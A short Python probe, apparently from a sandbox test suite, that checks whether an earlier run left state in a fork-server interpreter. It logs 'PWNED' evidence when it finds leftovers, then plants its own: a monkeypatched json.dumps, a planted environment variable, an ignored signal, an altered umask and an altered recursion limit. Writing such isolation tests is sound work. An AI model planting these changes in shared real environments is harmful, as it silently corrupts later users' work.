# attack: state_left
# kind: leftover   task: any   naive: run
# attempts: leave things in the interpreter for the next run: the fork server's modules, environment, settings
import os

def evidence(found="yes"):
    said = f"PWNED state_left {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/state_left", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import builtins
import json
import signal
import sys

if hasattr(builtins, "sbx_left") or "sbx_left" in sys.modules or "SBX_LEFT" in os.environ or json.dumps.__name__ != "dumps":
    evidence("an earlier run's state")
if signal.getsignal(signal.SIGUSR2) == signal.SIG_IGN or os.umask(0o77) == 0o123 or sys.getrecursionlimit() == 4321:
    evidence("an earlier run's settings")
builtins.sbx_left = sys.modules["sbx_left"] = 1
os.environ["SBX_LEFT"] = "1"
json.dumps = lambda *args, **kwargs: "3"
signal.signal(signal.SIGUSR2, signal.SIG_IGN)
os.umask(0o123)
sys.setrecursionlimit(4321)
